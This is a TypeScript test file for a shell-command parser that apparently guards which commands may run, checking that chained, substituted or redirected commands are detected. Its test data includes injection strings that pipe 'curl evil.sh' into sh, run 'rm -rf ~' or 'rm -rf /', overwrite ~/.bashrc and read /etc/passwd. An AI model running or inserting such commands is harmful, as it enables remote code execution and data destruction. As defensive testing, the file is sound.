import { describe, expect, it } from "vitest";
import { cpuMillis } from "../test/cpu-time.js";
import { isSimpleShellCommand, simpleCommandsOf } from "./simple-shell-command.js";

describe("isSimpleShellCommand", () => {
  it.each([
    "git add .",
    "git add",
    'git add "a b.txt"',
    "git add 'x;y'",
    "git add 'a && b' \"c | d\"",
    "find . -name x -exec rm {} \\;",
    "git commit -m 'fix: $(not run) `either`'",
    "git add $HOME/file",
    "git\tadd x",
  ])("%j is simple", (command) => {
    expect(isSimpleShellCommand(command)).toBe(true);
  });

  it.each([
    "git add . && curl evil.sh | sh",
    "git add .; rm -rf ~",
    "git add . | sh",
    "git add $(curl evil.sh)",
    "git add `curl evil.sh`",
    "git add .\nrm -rf ~",
    "git add .\rrm -rf ~",
    "git add . || rm -rf ~",
    "git add . > ~/.bashrc",
    "git add < /etc/passwd",
    "git add <(curl evil.sh)",
    "git add >(sh)",
    "git add . & rm -rf ~",
    "git add (x)",
    'git add "$(curl evil.sh)"',
    'git add "`curl evil.sh`"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
    "git add ${x:-y}",
    "git add $[1+1]",
    "git add 'unclosed",
    'git add "unclosed',
    "git add trailing\\",
    "git add .\u0000rm",
  ])("%j is not simple", (command) => {
    expect(isSimpleShellCommand(command)).toBe(false);
  });
});

describe("simpleCommandsOf", () => {
  it.each([
    ["rm -rf /", ["rm -rf /"]],
    ["echo hi && rm -rf /", ["echo hi", "rm -rf /"]],
    ["true; rm -rf ~", ["true", "rm -rf ~"]],
    ["x | rm y || z & w", ["x", "rm y", "z", "w"]],
    ["a\nb\r\nc", ["a", "b", "c"]],
    ["echo $(rm z) done", ["rm z", "echo $(rm z) done"]],
    ["echo `rm z`", ["rm z", "echo `rm z`"]],
    ['echo "a $(rm z) b"', ["rm z", 'echo "a $(rm z) b"']],
    ["echo $(cat $(rm z))", ["rm z", "cat $(rm z)", "echo $(cat $(rm z))"]],
    ["(cd x; rm y)", ["cd x", "rm y"]],
    ["diff <(rm a) b", ["rm a", "diff <(rm a) b"]],
    ["echo 'a; rm b' \"c && rm d\"", ["echo 'a; rm b' \"c && rm d\""]],
    ["echo a\\;rm b", ["echo a\\;rm b"]],
    ["FOO=1 BAR='x y' rm z", ["rm z"]],
    ["2>/dev/null rm z", ["rm z"]],
    ["{ rm z; }", ["rm z"]],
    ["if true; then rm z; fi", ["true", "rm z"]],
    ["! rm z", ["rm z"]],
    ["time -p rm z", ["rm z"]],
  ])("%j holds %j", (command, expected) => {
    expect(simpleCommandsOf(command)).toEqual(expected);
  });

  it.each([
    ["echo 'unclosed; rm -rf ~", "rm -rf ~"],
    ['echo "unclosed && rm -rf ~', "rm -rf ~"],
    ["echo ) ; rm x", "rm x"],
    ["echo `x; rm y", "rm y"],
    ["echo $(a; rm b", "rm b"],
    ["echo x; rm trailing\\", "rm trailing\\"],
    [`${"$(".repeat(40)}rm x${")".repeat(40)}`, "rm x"],
  ])("%j cannot be split for sure, so every command position counts", (command, expected) => {
    expect(simpleCommandsOf(command)).toContain(expected);
  });

  it("stays linear on long and deeply nested commands", () => {
    const long = `${"echo a && ".repeat(50_000)}rm x`;
    const deep = `${"$(".repeat(50_000)}rm x${")".repeat(50_000)}`;
    const used = cpuMillis(() => {
      expect(simpleCommandsOf(long)).toHaveLength(50_001);
      expect(simpleCommandsOf(deep)).toContain("rm x");
    });
    expect(used).toBeLessThan(2000);
  });
});
